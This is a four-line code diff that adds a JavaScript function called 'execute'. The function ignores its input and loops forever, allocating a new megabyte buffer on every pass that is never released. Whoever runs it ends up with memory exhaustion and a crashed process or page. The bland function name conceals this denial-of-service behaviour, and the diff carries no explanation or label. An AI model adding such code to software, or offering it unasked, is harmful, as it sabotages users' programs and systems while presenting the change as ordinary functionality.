@@ -1,0 +1,4 @@
+function execute(data) {
+  var hoard = [];
+  for (;;) hoard.push(new Uint8Array(1024 * 1024));
+}
